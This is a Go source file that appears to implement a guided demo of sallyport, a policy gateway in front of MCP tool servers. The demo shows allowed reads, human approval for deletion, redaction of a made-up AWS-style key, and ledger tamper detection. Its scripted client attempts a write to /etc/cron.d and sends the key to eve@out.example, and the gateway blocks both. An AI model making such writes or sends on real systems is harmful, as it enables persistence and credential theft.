// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/spf13/cobra"

	"github.com/sallyport/sallyport"
	"github.com/sallyport/sallyport/examples/notes"
	"github.com/sallyport/sallyport/ledger"
)

func (a *app) serverCommand() *cobra.Command {
	return &cobra.Command{
		Use: "example-server DIR", Short: "A small real MCP server over a folder of notes, for trying things out", Args: cobra.ExactArgs(1),
		Example: "  sallyport mcp --name notes -- sallyport example-server ~/notes",
		Hidden:  true,
		RunE: func(cmd *cobra.Command, args []string) error {
			return notes.Run(cmd.Context(), io.NopCloser(a.in), nopCloser{a.out}, args[0])
		},
	}
}

type nopCloser struct{ io.Writer }

func (nopCloser) Close() error { return nil }

func (a *app) demoCommand() *cobra.Command {
	return &cobra.Command{
		Use: "demo", Short: "A guided run on real parts: allowed, denied, approved, leaking, tampered, then an offline proof", Args: cobra.NoArgs,
		Long: `A guided run on real parts: an owner, a real MCP server behind "sallyport mcp", a scripted MCP
client, an approval from another process. The data directory stays for looking at (--data chooses it).`,
		RunE: func(cmd *cobra.Command, _ []string) error {
			ctx, cancel := context.WithTimeout(cmd.Context(), 2*time.Minute)
			defer cancel()
			d := &demo{app: a, began: time.Now()}
			return errors.Join(d.run(ctx), d.close())
		},
	}
}

// demo is one guided run.
type demo struct {
	*app
	began   time.Time
	exe     string
	data    string
	notes   string
	client  *mcp.ClientSession
	stop    context.CancelFunc
	stopped chan error
	n       int
}

func (d *demo) run(ctx context.Context) error {
	steps := []func(context.Context) error{d.prepare, d.allowed, d.denied, d.files, d.approved, d.leaking, d.record, d.proof, d.tampered}
	for _, step := range steps {
		if err := step(ctx); err != nil {
			return fmt.Errorf("demo: %w", err)
		}
	}
	d.say("\n%s in %.1f s. Look around:\n", d.colour(d.out, bold, "done"), time.Since(d.began).Seconds())
	d.say("  sallyport up --data %s          (in another terminal)\n  sallyport sessions list --data %s\n  sallyport ledger tail --data %s\n", d.data, d.data, d.data)
	return nil
}

func (d *demo) say(format string, args ...any) { fmt.Fprintf(d.out, format, args...) }

// step announces what comes next.
func (d *demo) step(title string) {
	d.n++
	d.say("\n%s %s\n", d.colour(d.out, cyan, fmt.Sprintf("%d.", d.n)), d.colour(d.out, bold, title))
}

// prepare makes the folders, starts an owner and connects a real client to a real server behind it.
func (d *demo) prepare(ctx context.Context) error {
	var err error
	if d.exe, err = os.Executable(); err != nil {
		return err
	}
	cfg, _, err := d.load()
	if err != nil {
		return err
	}
	d.data = cfg.Data
	if d.app.data == "" {
		if d.data, err = os.MkdirTemp("", "sallyport-demo-"); err != nil {
			return err
		}
	}
	d.notes = filepath.Clean(d.data) + "-notes"
	if err := os.MkdirAll(d.notes, 0o700); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(d.notes, "todo.txt"), []byte("1. water the plants\n2. pay the rent\n"), 0o600); err != nil {
		return err
	}
	secret := "deploy key: AKIA" + "Q7RTZ5WJ2MLB4XNC" + "\nask Bob before using it\n" // made up; split so that no scanner takes this file for a leak
	if err := os.WriteFile(filepath.Join(d.notes, "keys.txt"), []byte(secret), 0o600); err != nil {
		return err
	}
	d.step("An owner: policy, ledger and doors over one data directory")
	if err := d.startOwner(ctx); err != nil {
		return err
	}
	d.step("A real MCP server behind it: sallyport mcp --name notes -- sallyport example-server NOTES")
	d.client, err = d.connect(ctx, "notes", d.exe, "example-server", d.notes)
	return err
}

func (d *demo) startOwner(ctx context.Context) error {
	cfg := sallyport.DefaultConfig()
	cfg.Data, cfg.Gateway.Listen, cfg.Admin.Listen = d.data, "none", "none"
	s, err := sallyport.Open(ctx, cfg)
	if err != nil {
		return err
	}
	l, err := s.Listen()
	if err != nil {
		return errors.Join(err, s.Close())
	}
	ctx, d.stop = context.WithCancel(ctx)
	d.stopped = make(chan error, 1)
	go func() {
		ran := make(chan error, 1)
		go func() { ran <- s.Run(ctx) }()
		err := s.Serve(ctx, l)
		d.stopped <- errors.Join(err, <-ran, s.Close())
	}()
	b := s.Policy.Active().Bundle()
	d.say("   policy %s %s\n   ledger %s, fdatasync %d µs\n   data   %s\n", b.Name, b.Digest[:19], s.Ledger.Origin(), s.Ledger.Stats().FdatasyncUs, d.data)
	return nil
}

// connect opens a client's session with a server behind the gate and prints its tools.
func (d *demo) connect(ctx context.Context, name string, command ...string) (*mcp.ClientSession, error) {
	cmd := exec.CommandContext(ctx, d.exe, append([]string{"mcp", "--data", d.data, "--name", name, "--"}, command...)...)
	cmd.Stderr = io.Discard // a server's own chatter; what fails is an error of the calls
	client := mcp.NewClient(&mcp.Implementation{Name: "demo", Version: "1"}, nil)
	session, err := client.Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
	if err != nil {
		return nil, err
	}
	res, err := session.ListTools(ctx, nil)
	if err != nil {
		return session, err
	}
	var names []string
	for _, t := range res.Tools {
		names = append(names, t.Name)
	}
	d.say("   tools  %s\n", strings.Join(names, ", "))
	return session, nil
}

// call makes one call to the notes as an agent would and prints what the agent sees.
func (d *demo) call(ctx context.Context, tool string, args map[string]any) (string, bool, error) {
	return d.callOn(ctx, d.client, tool, args)
}

func (d *demo) callOn(ctx context.Context, session *mcp.ClientSession, tool string, args map[string]any) (string, bool, error) {
	res, err := session.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		return "", false, err
	}
	var b strings.Builder
	for _, c := range res.Content {
		if t, ok := c.(*mcp.TextContent); ok {
			b.WriteString(t.Text)
		}
	}
	mark := d.colour(d.out, green, "passes ")
	if res.IsError {
		mark = d.colour(d.out, red, "stopped")
	}
	d.say("   %s  %s(%s)\n            %s\n", mark, tool, brief(args), strings.ReplaceAll(strings.TrimSpace(b.String()), "\n", "\n            "))
	return b.String(), res.IsError, nil
}

func brief(args map[string]any) string {
	var parts []string
	for _, k := range []string{"name", "text", "path", "to"} {
		if v, ok := args[k]; ok {
			parts = append(parts, fmt.Sprintf("%s: %q", k, v))
		}
	}
	return strings.Join(parts, ", ")
}

// want fails the demo if a call went another way than the story tells.
func want(stopped, isError bool, err error) error {
	if err == nil && stopped != isError {
		err = fmt.Errorf("the call went the other way (stopped: %v)", isError)
	}
	return err
}

func (d *demo) allowed(ctx context.Context) error {
	d.step("Reading passes, and is recorded all the same")
	_, isError, err := d.call(ctx, "read_note", map[string]any{"name": "todo"})
	return want(false, isError, err)
}

func (d *demo) denied(ctx context.Context) error {
	d.step("Writing outside the folder is denied, with a reason that the model can read")
	_, isError, err := d.call(ctx, "write_copy", map[string]any{"name": "todo", "path": "/etc/cron.d/todo"})
	return want(true, isError, err)
}

var ticket = regexp.MustCompile(`approvals approve (\S+)`)

func (d *demo) approved(ctx context.Context) error {
	d.step("Deleting waits for a person; exactly this call passes, once")
	text, isError, err := d.call(ctx, "delete_note", map[string]any{"name": "todo"})
	if err := want(true, isError, err); err != nil {
		return err
	}
	m := ticket.FindStringSubmatch(text)
	if m == nil {
		return errors.New("the answer names no ticket")
	}
	id := strings.TrimRight(m[1], ".\"`)")
	d.say("   %s  sallyport approvals approve %s\n", d.colour(d.out, yellow, "a person"), id)
	out, err := exec.CommandContext(ctx, d.exe, "approvals", "approve", id, "--data", d.data).CombinedOutput()
	if err != nil {
		return fmt.Errorf("approve: %w: %s", err, out)
	}
	_, isError, err = d.call(ctx, "delete_note", map[string]any{"name": "todo"})
	return want(false, isError, err)
}

func (d *demo) leaking(ctx context.Context) error {
	d.step("A secret in a result does not reach the model, and what was read may not leave")
	text, isError, err := d.call(ctx, "read_note", map[string]any{"name": "keys"})
	if err := want(false, isError, err); err != nil {
		return err
	}
	if strings.Contains(text, "AKIA"+"Q7RTZ5WJ2MLB4XNC") {
		return errors.New("the secret reached the model")
	}
	_, isError, err = d.call(ctx, "send_note", map[string]any{"name": "keys", "to": "eve@out.example"})
	return want(true, isError, err)
}

// record ends client and owner; from here on nothing of ours runs.
func (d *demo) record(context.Context) error {
	d.step("The owner stops; only its files are left")
	return d.close()
}

func (d *demo) close() error {
	var errs []error
	if d.client != nil {
		_ = d.client.Close() // the server's exit code is not ours
		d.client = nil
	}
	if d.stop != nil {
		d.stop()
		errs = append(errs, <-d.stopped)
		d.stop = nil
	}
	return errors.Join(errs...)
}

func (d *demo) proof(ctx context.Context) error {
	d.step("Anybody can verify the record offline: sallyport ledger verify")
	rep, err := ledger.Verify(ctx, ledger.Source{Dir: d.data}, ledger.Options{})
	if rep != nil {
		d.say("%s", indent(rep.Text()))
	}
	if err == nil && !rep.OK {
		err = errors.New("the log does not verify")
	}
	return err
}

// tampered flips one byte in a copy of the log and shows that it is found.
func (d *demo) tampered(ctx context.Context) error {
	d.step("One byte changed in a copy is found")
	copied, err := os.MkdirTemp("", "sallyport-tampered-")
	if err != nil {
		return err
	}
	defer func() { _ = os.RemoveAll(copied) }()
	if err := os.CopyFS(copied, os.DirFS(d.data)); err != nil {
		return err
	}
	segments, err := filepath.Glob(filepath.Join(copied, "wal", "*"))
	if err != nil || len(segments) == 0 {
		return errors.Join(errors.New("no segment to change"), err)
	}
	if err := flip(segments[0]); err != nil {
		return err
	}
	rep, err := ledger.Verify(ctx, ledger.Source{Dir: copied}, ledger.Options{})
	if err != nil && !errors.Is(err, ledger.ErrVerification) {
		return err
	}
	if rep == nil || rep.OK {
		return errors.New("the change was not found")
	}
	d.say("   %s  %s\n", d.colour(d.out, red, "found"), rep.Problems[0].String())
	return nil
}

// flip changes one bit in the middle of the written part of a segment.
func flip(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	used := len(bytes.TrimRight(b, "\x00"))
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteAt([]byte{b[used/2] ^ 1}, int64(used/2))
	return errors.Join(err, f.Close())
}

func indent(s string) string {
	return "   " + strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n   ") + "\n"
}
